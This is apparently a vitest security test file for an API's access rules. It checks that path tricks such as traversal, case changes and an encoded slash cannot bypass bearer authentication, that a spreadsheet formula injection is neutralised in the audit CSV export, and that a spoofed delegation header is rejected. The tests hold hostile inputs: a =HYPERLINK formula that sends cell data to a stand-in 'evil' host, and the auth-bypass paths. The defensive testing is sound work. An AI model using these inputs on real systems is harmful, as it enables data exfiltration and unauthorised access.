/**
 * Who may do what, attacked (issue 15, cases of an adversarial review): path tricks around bearer
 * authentication, formulas in the audit CSV, persons whose names read as another delegation.
 */
import { describe, expect, it } from 'vitest';
import { useTestSystem } from '../support/running-system';

const rulebook = useTestSystem();

describe('path tricks around bearer authentication', () => {
  it('needs a token whatever the case, trailing slash or method of the path', async () => {
    await rulebook.post('/v1/customers', { id: 'C-pt-1', email: 'pt1@example.com', name: 'Pia Thomas' });
    const url = rulebook.system.apiUrl;
    for (const [method, path] of [
      ['GET', '/V1/customers/C-pt-1'],
      ['GET', '/v1/customers/C-pt-1/'],
      ['GET', '/v1/CUSTOMERS/C-pt-1'],
      ['HEAD', '/v1/customers/C-pt-1'],
      ['GET', '/v1/temporal-codec/../customers/C-pt-1'],
      ['GET', '/v1%2Fcustomers/C-pt-1'],
      ['OPTIONS', '/v1/customers/C-pt-1'],
    ] as const) {
      const res = await fetch(`${url}${path}`, { method });
      const text = await res.text();
      expect(res.status, `${method} ${path}`).not.toBe(200);
      expect(text, `${method} ${path}`).not.toContain('pt1@example.com');
    }
  });
});

describe('the audit CSV and persons named by delegates', () => {
  it('neutralises a formula in the onBehalfOf cell of the CSV export', async () => {
    await rulebook.post('/v1/customers', { id: 'C-csv-1', email: 'csv1@example.com' });
    const res = await rulebook.post('/v1/customers/C-csv-1/notes', { text: 'x', author: '=HYPERLINK("http://evil/?"&A1,"x")' });
    expect(res.status).toBeLessThan(500);
    await new Promise((resolve) => setTimeout(resolve, 500));
    const csv = await (await rulebook.api('/v1/audit?limit=500&format=csv')).text();
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('refuses a person whose name reads as another delegation ("x via y")', async () => {
    await rulebook.post('/v1/customers', { id: 'C-via-1', email: 'via1@example.com' });
    const res = await rulebook.api('/v1/customers/C-via-1/notes', {
      method: 'POST',
      json: { text: 'x' },
      headers: { 'on-behalf-of': 'dpo.anita via dpo-console' },
    });
    // Recorded as "dpo.anita via dpo-console via token-1": reads as if the DPO console had acted.
    expect(res.status, JSON.stringify(await res.clone().json())).toBe(422);
  });
});
